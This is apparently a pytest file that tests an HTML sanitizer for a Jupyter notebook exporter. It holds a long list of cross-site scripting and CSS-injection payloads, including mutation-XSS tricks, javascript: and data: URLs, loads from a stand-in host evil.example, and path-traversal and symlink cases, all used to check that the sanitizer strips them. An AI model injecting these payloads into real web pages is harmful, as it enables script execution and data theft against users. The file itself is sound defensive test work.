# ruff: noqa: E501  # an attack is one line
"""A notebook is not trusted: nothing of it runs, asks, sends, or stands where it does not belong."""

from __future__ import annotations

import base64
import re
from pathlib import Path
from typing import Any

import html5lib
import pytest
from export.conftest import Page, addresses, classes, code, export, markdown, notebook, shows, text
from hypothesis import example, given
from hypothesis import strategies as st
from nbformat import v4

from pyscript_jupyter.export import css
from pyscript_jupyter.export.sanitize import TAGS, clean

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script><animate onbegin=alert(1)></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x'/></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<math><a xlink:href=javascript:alert(1)>x</a><mi href=javascript:alert(1)>x</mi></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' &#1;jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a><a href='file:///etc/passwd'>x</a><a href='blob:x'>x</a>",
    "<iframe src=https://evil.example></iframe><object data=x></object><embed src=x><applet code=x></applet>",
    "<form action=https://evil.example><input name=q><button formaction=javascript:alert(1)>x</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'><base href=https://evil.example><link rel=stylesheet href=x>",
    "<div style='position:fixed;top:0;left:0;width:100vw;height:100vh;background:red'>x</div>",
    "<div style='background:url(https://evil.example/x)'>x</div>",
    "<div style='color:red;/*'>x</div><div style='margin-top:-9999px;transform:scale(99)'>x</div>",
    "<style>body{display:none}</style><style>@import 'https://evil.example/x.css';</style>",
    "<style>#pyscript-page{color:red} #cell-c0 *{color:red} #x ~ *{color:red} #x{background:url(//evil.example)}</style>",
    "<style>#x{color:red}</style ><script>alert(1)</script><style>#y{font-family:'</style><script>alert(1)</script>'}</style>",
    "<p id='pyscript-notebook'>{}</p><p id='PYSCRIPT-cells'>[]</p><p id='cell-c0'>x</p>",
    "<section class='cell cell-code' data-index=0><div class='outputs output-html'>x</div></section>",
    "</div></section></main><h1 class='pyscript-title'>Mine</h1><section>",
    "<template><script>alert(1)</script></template><noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea></textarea><select><option>x</select><xmp><script>alert(1)</script></xmp><plaintext>x",
    "<!--><img src=x onerror=alert(1)>--><![CDATA[<img src=x onerror=alert(1)>]]><?php <img onerror=x> ?>",
    "<video poster=x onloadstart=alert(1)><source onerror=alert(1) src=x></video><audio src=http://evil.example/x>",
    "<img srcset='https://evil.example/x 1x' src='data:text/html,<script>alert(1)</script>'>",
    "<img src=http://evil.example/x.png><img src=//evil.example/x.png><img src=file:///etc/x.png>",
    "$\\href{javascript:alert(1)}{x}$ $\\text{<img src=x onerror=alert(1)>}$ $\\style{position:fixed}{x}$",
    "$$\\class{cell}{x} \\color{red;position:fixed}{y} \\unicode{x3c}$$",
    "[x](javascript:alert(1)) ![x](javascript:alert(1)) <javascript:alert(1)> [y](data:text/html,x)",
    "```mermaid\n</pre><script>alert(1)</script>\n```",
    "```html\n<script>alert(1)</script>\n```",
    '# <img src=x onerror=alert(1)>\n# " onclick=alert(1) x="',
]


def attacked(source: str) -> Page:
    """Return a page on which one attack stands in every place there is."""
    every = {
        "text/html": source, "text/markdown": source, "text/latex": source, "text/plain": source,
        "image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg'>{source}</svg>", "application/json": [source],
        "application/javascript": source, "image/png": source, "text/x-other": source, source: source,
    }  # fmt: skip
    outputs = [shows(**{mime: value}) for mime, value in every.items()]
    outputs.append(v4.new_output("execute_result", {"image/png": source}, metadata={"alt": source, "width": source}))
    outputs += [v4.new_output("stream", name=name, text=source) for name in ("stdout", "stderr", source)]
    outputs.append(v4.new_output("error", ename=source, evalue=source, traceback=[source]))
    raw = v4.new_raw_cell(source, metadata={"format": "text/html"})
    attachments = {"a.png": {source: source, "image/png": source}}
    return export(
        notebook(
            code(source, *outputs), markdown(source), markdown("![x](attachment:a.png)", attachments), raw, title=source
        )
    )


def check(page: Page) -> None:
    """Check that a page is harmless, as a browser would parse it."""
    assert [each.get("id") for each in page.all("script")] == ["pyscript-notebook", "pyscript-cells"]
    (body,) = page.all("body")
    allowed = {name.lower() for name in TAGS} | {"body", "main", "script", "style"}
    for element in body.iter():
        assert isinstance(element.tag, str), "a comment"
        assert element.tag.lower().split(":")[-1].split("}")[-1] in allowed, element.tag
        for name, value in element.attrib.items():
            assert not name.lower().startswith("on"), (element.tag, name)
            assert name not in {"srcdoc", "srcset", "action", "formaction", "poster", "ping", "target", "content"}
            if name == "style":
                assert not re.search(r"position|url|transform|margin-top:-", value), value
    assert len(page.all("main")) == 1
    (main,) = page.all("main")
    assert all(each.tag in ("section", "h1", "p") for each in main)
    assert [each.get("id") for each in page.sections] == ["cell-c0", "cell-c1", "cell-c2", "cell-c3"]
    ids = [each.get("id") for each in page.all() if (each.get("id") or "").lower().startswith(("pyscript", "cell-"))]
    assert ids == [
        "pyscript-style",
        "pyscript-page",
        "cell-c0",
        "cell-c1",
        "cell-c2",
        "cell-c3",
        "pyscript-notebook",
        "pyscript-cells",
    ]
    for address in addresses(page):
        assert re.match(r"data:(image|audio|video)/|https:|mailto:|#|[\w.%/ &<>\"'=();?-]*$", address), address
    for style in page.all("style")[1:]:
        assert not re.search(r"@|url|pyscript|#cell|body|~|<", text(style)), text(style)


@pytest.mark.parametrize("source", ATTACKS)
def test_an_attack_does_nothing_wherever_it_stands(source: str) -> None:
    check(attacked(source))


FRAGMENTS = st.lists(
    st.sampled_from(
        [*ATTACKS, *"<>'\"/=- ", "<p>", "</p>", "<svg>", "</svg>", "<math>", "</math>", "<mtext>", "<table>", "<td>", "<style>",
         "</style>", "<!--", "-->", "<select>", "<title>", "</title>", "<desc>", "<a id='", "'>", "<form>", "<mglyph>", "&lt;"]
    ),
    max_size=12,
).map("".join)  # fmt: skip


@given(FRAGMENTS)
@example("<svg><desc><style><img src=x onerror=alert(1)>")
def test_html_that_was_cleaned_is_parsed_as_it_was_cleaned(source: str) -> None:
    cleaned = clean(source, styles=True)
    tree = html5lib.parseFragment(cleaned, treebuilder="etree", namespaceHTMLElements=False)
    for element in tree.iter():
        if element is tree:
            continue
        name = str(element.tag).split("}")[-1]
        assert name in TAGS | {"style"}, cleaned
        assert not any(each.lower().startswith("on") for each in element.attrib), cleaned


def test_what_is_harmless_stays() -> None:
    table = (
        "<table class='dataframe mine' border='1'><thead><tr style='text-align: right;'><th scope='col'>a</th></tr></thead>"
        "<tbody><tr><td colspan='2' style='color: red; background-color: #ff0; font-weight: bold'>1</td></tr></tbody></table>"
    )
    page = export(notebook(code("1", shows(text__html=table))))
    assert classes(page.one("table")) == ["dataframe", "mine"]
    assert page.one("td").attrib == {"colspan": "2", "style": "color: red; background-color: #ff0; font-weight: bold"}
    drawn = clean('<svg viewBox="0 0 9 9"><linearGradient id="g"/><path fill="url(#g)" d="M0 0"/></svg>')
    assert (
        drawn
        == '<svg viewBox="0 0 9 9"><linearGradient id="g"></linearGradient><path fill="url(#g)" d="M0 0"></path></svg>'
    )
    link = clean('<a href="https://example.org/a?b#c" title="t">x</a> <a href="other.ipynb">y</a> <a href="#z">z</a>')
    assert link.count("href") == 3
    assert clean("<details open><summary>s</summary>x</details>").startswith("<details open")


def test_styles_of_a_pandas_styler_stay() -> None:
    styled = (
        "<style type='text/css'>\n#T_1 th {color: #111;}\n#T_1_row0_col0, #T_1_row1_col0:hover {background-color: yellow;}\n"
        ".other {color: red}\n#T_1 .data {position: fixed; width: 10em; background: linear-gradient(90deg, red 5%, transparent)}"
        "</style><table id='T_1'><tr><td id='T_1_row0_col0' class='data row0'>1</td></tr></table>"
    )
    page = export(notebook(code("1", shows(text__html=styled))))
    assert text(page.all("style")[1]).splitlines() == [
        "#T_1 th {color: #111}",
        "#T_1_row0_col0, #T_1_row1_col0:hover {background-color: yellow}",
        "#T_1 .data {width: 10em; background: linear-gradient(90deg, red 5%, transparent)}",
    ]
    assert page.one("td").get("id") == "T_1_row0_col0"


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("color: red", "color: red"),
        ("COLOR: red !important", "color: red !important"),
        ("background: url(x); color: blue", "color: blue"),
        ("background: u\\72l(x)", ""),
        ("width: calc(100% - 1px)", "width: calc(100% - 1px)"),
        ("width: expression(alert(1))", ""),
        ("position: absolute; z-index: 9; --x: y; -moz-binding: x; behavior: x", ""),
        ("margin: -5px; padding: 5px", "padding: 5px"),
        ("color: var(--page)", ""),
        ("font-family: 'A b', serif", "font-family: 'A b', serif"),
        ("}</style><script>", ""),
        ("color: red; } body { color: blue", "color: red"),
    ],
)  # fmt: skip
def test_of_styles_stays_what_is_listed(given: str, kept: str) -> None:
    assert css.declarations(given).replace('"', "'") == kept


def test_svg_is_shown_as_an_image_whose_scripts_never_run() -> None:
    page = export(notebook(code("1", shows(**{"image/svg+xml": "<svg width='9'><script>x</script></svg>"}))))
    address = str(page.one("img").get("src"))
    assert base64.b64decode(address.removeprefix("data:image/svg+xml;base64,")).startswith(
        b'<svg xmlns="http://www.w3.org/2000/svg" width='
    )
    assert page.one("img").get("alt")


def test_what_needs_a_script_is_told_in_words() -> None:
    view = {"application/vnd.jupyter.widget-view+json": {"model_id": "abc", "version_major": 2}}
    outputs: list[Any] = [
        shows(application__javascript="alert(1)", text__plain="<IPython.core.display.Javascript object>"),
        shows(**view),
        shows(**view, text__plain="IntSlider(value=3)"),
        shows(text__html="<script>x</script>"),
        shows(text__html="<script>x</script>", text__plain="a chart"),
        shows(application__pdf="x"),
    ]
    page = export(notebook(code("1", *outputs)))
    assert [text(each).strip() for each in page.all("div", "output")] == [
        "A JavaScript output, which is not run in this page.",
        "A widget, which needs its kernel and is not shown in this page.",
        "IntSlider(value=3)",
        "An output that needs a script or another page, which are not loaded in this page.",
        "a chart",
        "An output of the type application/pdf, which is not shown in this page.",
    ]


PNG = b"\x89PNG\r\n"


def test_images_beside_the_notebook_come_into_the_page(tmp_path: Path) -> None:
    folder = tmp_path / "work"
    (folder / "sub dir").mkdir(parents=True)
    (folder / "sub dir" / "a.png").write_bytes(PNG)
    (folder / "notes.txt").write_text("secret")
    (tmp_path / "outside.png").write_bytes(PNG)
    (folder / "link.png").symlink_to(tmp_path / "outside.png")
    (folder / "inner.png").symlink_to(folder / "sub dir" / "a.png")
    good = ["sub%20dir/a.png", "./sub%20dir/a.png?x=1#y", "inner.png"]
    bad = [
        "../outside.png",
        "link.png",
        str(folder / "inner.png"),
        f"file://{folder}/inner.png",
        "notes.txt",
        "no.png",
        "sub%20dir",
    ]
    source = (
        "\n\n".join(f"![]({name})" for name in [*good, *bad]) + "\n\n<img src='inner.png'>\n\n<img src='no\0\\x.png'>"
    )
    page = export(notebook(markdown(source), code("1", shows(text__html="<img src=inner.png>"))), folder)
    wanted = f"data:image/png;base64,{base64.b64encode(PNG).decode()}"
    assert [each.get("src") for each in page.all("img")] == [wanted] * 3 + [None] * 7 + [wanted, None, wanted]
    assert all(each.get("src") is None for each in export(notebook(markdown(source))).all("img"))


def test_attachments_come_into_the_page() -> None:
    attachments = {"my image.png": {"image/png": "iVBO\nRw=="}, "x.txt": {"text/plain": "aGk="}}
    source = (
        "![a](attachment:my%20image.png) <img src='attachment:my image.png'> ![](attachment:x.txt) ![](attachment:no)"
    )
    images = export(notebook(markdown(source, attachments))).all("img")
    assert [each.get("src") for each in images] == ["data:image/png;base64,iVBORw=="] * 2 + [None, None]
